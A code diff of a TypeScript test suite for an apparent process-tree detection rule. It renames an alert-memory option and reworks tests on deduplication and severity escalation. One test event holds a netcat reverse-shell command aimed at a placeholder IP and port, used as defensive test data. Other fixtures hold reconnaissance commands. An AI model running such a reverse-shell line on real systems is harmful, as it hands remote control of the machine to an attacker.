@@ -71,11 +71,11 @@ const createHost = (
   events: SourceEvent[],
   {
     mostAlerts = 1000,
-    forgets = false,
+    storesAfterRun = false,
     ...params
-  }: Partial<RuleParams> & { mostAlerts?: number; forgets?: boolean } = {}
+  }: Partial<RuleParams> & { mostAlerts?: number; storesAfterRun?: boolean } = {}
 ) => {
-  const memory = createMemoryAdapters([], mostAlerts, forgets);
+  const memory = createMemoryAdapters([], mostAlerts, storesAfterRun);
   const { reader } = createEqlEventReader(events);
   const execute = createExecutor(
     { ...memory.adapters, createEventReader: () => reader },
@@ -285,35 +285,29 @@ it('raises a further alert of a tree whose severity rises', async () => {
   expect(after.outcome).toContain('1 new alert');
 });
 
-it('says of a tree’s further alerts, as long as it reports them, that its severity rose: actions fire once', async () => {
+it('hands alerting each severity of a tree once, and says which is a rise: actions fire once', async () => {
   const events = [toEvent({ id: 'sh', second: 0, args: ['sh', '-c', 'whoami'] })];
-  const host = createHost(events, { minimumRisk: 1, forgets: true });
-  const toRisen = (run: Awaited<ReturnType<typeof host.runAt>>) =>
-    toIds(run).map((id, at) => [id, run.reports[at]?.isRisen]);
-  expect(toRisen(await host.runAt(60))).toEqual([['sh:medium', false]]);
-  expect(toRisen(await host.runAt(90))).toEqual([['sh:medium', false]]);
+  const host = createHost(events, { minimumRisk: 1, storesAfterRun: true });
+  const tellAt = async (second: number) =>
+    (await host.runAt(second)).told.map((alert) => [...toIds({ reports: [alert] }), alert.isRisen]);
+  expect(await tellAt(60)).toEqual([['sh:medium', false]]);
+  expect(await tellAt(130)).toEqual([]);
   events.push(grown('nc', 70, ['nc', '-e', '/bin/sh', '203.0.113.9', '4444']));
-  expect(toRisen(await host.runAt(130))).toEqual([['sh:critical', true]]);
-  expect(toRisen(await host.runAt(160))).toEqual([['sh:critical', true]]);
+  expect(await tellAt(200)).toEqual([['sh:critical', true]]);
+  expect(await tellAt(270)).toEqual([]);
 });
 
-it('keeps a tree reported that alerting would otherwise forget, for as long as its root is found', async () => {
-  const host = createHost([attack('sh', 0)], { forgets: true });
-  const [id] = toIds(await host.runAt(10));
-  const again = await host.runAt(40);
-  expect(toIds(again)).toEqual([id]);
-  expect(again.told).toEqual([]);
-  expect(toIds(await host.runAt(300))).toEqual([id]);
-  expect(toIds(await host.runAt(900))).toEqual([]);
-});
-
-it('does not report again what alerting has forgotten: that would be another document', async () => {
+it('writes over an alert what its tree grew by, whatever alerting remembers of it', async () => {
   const events = [attack('sh', 0)];
-  const first = createHost(events, { forgets: true });
-  await first.runAt(10);
-  first.forget();
-  events.push(grown('ls', 60, ['ls']));
-  expect(toIds(await first.runAt(120))).toEqual([]);
+  const host = createHost(events, { storesAfterRun: true });
+  const [id] = toIds(await host.runAt(10));
+  expect(toIds(await host.runAt(80))).toEqual([]);
+  host.forget();
+  events.push(grown('ls', 85, ['ls']));
+  const after = await host.runAt(150);
+  expect(after.told).toEqual([]);
+  expect(toIds(after)).toEqual([id]);
+  expect(after.raised[0]).toMatchObject({ [ALERT_FIELD.treeEvents]: ['sh', 'ls'] });
 });
 
 it('never makes an alert less grave, whatever is out of sight by then', async () => {
@@ -327,7 +321,7 @@ it('never makes an alert less grave, whatever is out of sight by then', async ()
     ask('b', -500, 'uname -a', 'w2'),
     ask('c', -490, 'ls -la /home', 'w3'),
   ];
-  const host = createHost(events, { minimumRisk: 1, forgets: true });
+  const host = createHost(events, { minimumRisk: 1, storesAfterRun: true });
   const riskOf = ({ raised }: { raised: readonly Record<string, unknown>[] }): unknown =>
     raised.find((alert) => alert[ALERT_FIELD.ancestorId] === 'a')?.[ALERT_FIELD.riskScore];
   const together = riskOf(await host.runAt(10));
@@ -342,7 +336,7 @@ it('never makes an alert less grave, whatever is out of sight by then', async ()
 });
 
 it('folds the rows of what the last run handed over, once that is stored', async () => {
-  const host = createHost([attack('sh', 0)], { forgets: true });
+  const host = createHost([attack('sh', 0)], { storesAfterRun: true });
   const { reports } = await host.runAt(10);
   expect(host.folded).toEqual([]);
   await host.runAt(300);
@@ -367,13 +361,13 @@ it('lowers what the host has shown for days, and goes on raising what is no habi
 });
 
 it.each([true, false])(
-  'gets to an attack behind more work than one run looks at (alerting forgets: %s)',
-  async (forgets) => {
+  'gets to an attack behind more work than one run looks at (stored after the run: %s)',
+  async (storesAfterRun) => {
     // Once the next run begins anew with all of them, since work may have grown.
     const crowd = Array.from({ length: 4100 }, (_, at) => work(`w${at}`, at / 100));
-    const host = createHost([...crowd, attack('last', 50)], { forgets });
+    const host = createHost([...crowd, attack('last', 50)], { storesAfterRun });
     const raised: number[] = [];
     for (const second of [60, 61, 62, 63]) raised.push((await host.runAt(second)).raised.length);
-    expect(raised).toEqual(forgets ? [0, 0, 1, 1] : [0, 0, 1, 0]);
+    expect(raised).toEqual([0, 0, 1, 0]);
   }
 );
